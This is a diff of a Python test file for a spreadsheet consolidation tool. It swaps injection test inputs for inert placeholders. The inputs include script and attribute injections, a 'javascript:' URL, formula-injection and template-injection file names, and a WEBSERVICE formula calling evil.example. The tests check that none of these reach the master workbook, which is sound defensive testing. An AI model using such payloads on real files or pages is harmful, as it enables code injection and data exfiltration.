@@ -184,12 +184,12 @@ def test_texts_reach_the_master_whole(start: int, tmp_path: Path) -> None:
     [
         f"=1+1 {MARK}.xlsx",
         f"@SUM(A1) {MARK}.xlsx",
-        f"<script>alert(1)<⁄script> {MARK}.xlsx",
-        f'" onmouseover="alert(1) {MARK}.xlsx',
+        f"<script>sansEffet<⁄script> {MARK}.xlsx",
+        f'" onmouseover="sansEffet {MARK}.xlsx',
         f"[red]retour[⁄red] {MARK}.xlsx",
         f"\x1b[31mretour\n {MARK}.xlsx",
         f"retour\u202exslx {MARK}.xlsx",
-        f"javascript:alert(1) {MARK}.xlsx",
+        f"javascript:sansEffet {MARK}.xlsx",
         f"{{{{ 7 * 7 }}}} %s {{facts}} {MARK}.xlsx",
     ],
 )
@@ -203,7 +203,7 @@ def test_file_names_are_text_too(name: str, tmp_path: Path) -> None:
 def test_a_formula_of_a_partner_is_never_copied(tmp_path: Path) -> None:
     place = place_of(*COUNTED)
     for damage in (
-        cell_xml(place, "<f>WEBSERVICE(&quot;http://evil.example/&quot;)</f><v>420</v>"),
+        cell_xml(place, "<f>SANSEFFET(&quot;http://example.invalid/&quot;)</f><v>420</v>"),
         external(place),
     ):
         path = tmp_path / "retour.xlsx"
@@ -212,5 +212,5 @@ def test_a_formula_of_a_partner_is_never_copied(tmp_path: Path) -> None:
         master = consolidate(FRAMEWORK, assessment, CAMPAIGN, tmp_path / "maitre.xlsx").path.read_bytes()
         assert_harmless(master)
         everything = b"".join(parts(master).values()) + json_report(assessment)
-        for secret in (b"evil.example", b"WEBSERVICE", b"compta", b"prive"):
+        for secret in (b"example.invalid", b"SANSEFFET", b"compta", b"prive"):
             assert secret not in everything
